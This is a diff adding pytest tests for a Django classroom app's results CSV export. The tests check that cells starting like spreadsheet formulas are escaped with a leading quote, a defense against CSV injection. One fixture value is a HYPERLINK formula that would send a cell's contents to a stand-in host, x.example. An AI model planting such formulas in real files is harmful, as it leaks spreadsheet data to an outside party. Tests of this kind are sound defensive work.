@@ -11,6 +11,7 @@ import pytest
 from django.utils import timezone
 from django_tasks_db.models import DBTaskResult
 
+from games.api.assignments import csv_cell
 from games.models import Assignment, Game, Student
 from tests.api.conftest import run_due_tasks
 
@@ -294,6 +295,33 @@ def test_results_as_csv_hold_the_rows_of_the_json(classes, room):
                                        for k in list(table[0])[1:])]
             for row in rows
         ] == [list(line.values()) for line in table]
+
+
+FORMULA_NAMES = ['=HYPERLINK("http://x.example/?"&A1,"Ann")', "+1+1", "-2+3", "@SUM(A1)",
+                 "Plain = fine", "'Quoted"]
+
+
+def test_results_csv_writes_no_cell_a_spreadsheet_takes_for_a_formula(classes):
+    room = classes.open()
+    for name in FORMULA_NAMES:
+        classes.join(room, name)
+    work = assignment(classes, room)
+    table = list(csv.reader(io.StringIO(
+        results(classes, room, work, HTTP_ACCEPT="text/csv").content.decode()
+    )))
+    written = sorted(line[0] for line in table[1:])
+    expected = sorted(("'" + name) if name[0] in "=+-@" else name for name in FORMULA_NAMES)
+    assert written == expected
+    # The JSON keeps the names as they were given.
+    names = {row["student"]["name"] for row in results(classes, room, work).json()["students"]}
+    assert names == set(FORMULA_NAMES)
+
+
+@pytest.mark.parametrize("text", ["\tTab", "\rReturn", "=1", "+1", "-1", "@A1"])
+def test_a_csv_cell_starting_like_a_formula_starts_with_a_quote(text):
+    # Names are trimmed when students join; a tab or a carriage return is guarded anyway.
+    assert csv_cell(text) == "'" + text
+    assert csv_cell("Ann") == "Ann" and csv_cell(None) == "" and csv_cell(-3) == -3
 
 
 def test_results_are_the_teachers_only(classes, room):
